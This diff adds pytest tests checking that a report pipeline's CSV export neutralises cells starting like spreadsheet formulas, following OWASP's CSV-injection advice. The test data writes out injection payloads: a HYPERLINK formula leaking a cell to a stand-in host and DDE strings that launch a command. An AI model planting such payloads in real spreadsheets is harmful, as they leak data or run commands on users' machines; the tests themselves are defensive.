@@ -17,7 +17,7 @@ from pipeline.assemble import build_report
 from pipeline.history.known_issues import issue_record
 from pipeline.inputs.load import read_inputs
 from pipeline.status.timeframes import timeframe_issues
-from tests.conftest import BUNDLED_INPUTS, PROJECT
+from tests.conftest import BUNDLED_INPUTS, PROJECT, edit_sheet, find_row, header_column
 
 
 @pytest.fixture(autouse=True)
@@ -178,3 +178,49 @@ def test_a_run_lists_the_new_issues_and_records_its_own(capsys, tmp_path):
     from openpyxl import load_workbook
     sheet = load_workbook(next(made.glob("*.xlsx")))["Data issues"]
     assert [sheet.cell(row=r, column=1).value for r in range(2, 4)] == ["new", "known (in the previous report)"]
+
+
+
+FORMULAS = {"A.1": '=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "A.2": "+cmd|' /C calc'!A0",
+            "A.3": "@SUM(1+1)*cmd|' /C calc'!A0", "A.4": "-2+3+cmd|' /C calc'!A0"}
+TITLE = '=HYPERLINK("http://example.invalid/?leak="&A1,"title")'
+
+
+def _text_cell(folder: Path, sheet: str, row: int, header: str, value: str) -> None:
+    """Put `value` in as text, even where it starts with '=' (openpyxl would store a formula)."""
+    def edit(ws):
+        cell = ws.cell(row, header_column(ws, header))
+        cell.value = value
+        cell.data_type = "s"
+
+    edit_sheet(folder, "programmes.xlsx", sheet, edit)
+
+
+def test_csv_cells_that_start_like_a_formula_are_neutralised_and_json_stays_exact(inputs_copy, capsys, tmp_path):
+    """OWASP's advice for CSV injection: text starting with =, +, -, @, tab or return gets a leading ' in
+    the CSV (Excel then shows it as text); the Total row's programme title too. JSON keeps the text as is."""
+    _text_cell(inputs_copy, "Programmes", 2, "Title", TITLE)
+    for code, text in FORMULAS.items():
+        _text_cell(inputs_copy, "Activities", find_row(inputs_copy, "programmes.xlsx", "Activities", "Code", code),
+                   "Description", text)
+    args = ("status", "--meeting", "StC38", "--inputs", str(inputs_copy), "--outputs", str(tmp_path))
+    code, out, err = run(capsys, *args, "--format", "csv")
+    assert code == 0, err
+    rows = list(csv.reader(io.StringIO(out)))
+    cells = [cell for row in rows for cell in row]
+    total = next(row for row in rows if row[:2] == ["JA 2008-2011", "Total"])
+    assert total[2] == f"'{TITLE}"
+    descriptions = {row[1]: row[-1] for row in rows if row[:1] == ["JA 2008-2011"] and row[1] in FORMULAS}
+    assert descriptions == {code: f"'{text}" for code, text in FORMULAS.items()}
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    code, out, _ = run(capsys, *args, "--format", "json")
+    programme = next(p for p in json.loads(out)["programmes"] if p["id"] == "JA 2008-2011")
+    assert programme["title"] == TITLE
+    assert {a["code"]: a["description"] for a in programme["activities"] if a["code"] in FORMULAS} == FORMULAS
+
+
+def test_tab_and_return_starts_are_neutralised_too_and_numbers_are_left_alone():
+    from pipeline.status.glance import spreadsheet_safe
+
+    assert [spreadsheet_safe(v) for v in ("\tcmd", "\r=1", "-", "a=b", "", 3, -2)] == \
+        ["'\tcmd", "'\r=1", "'-", "a=b", "", 3, -2]
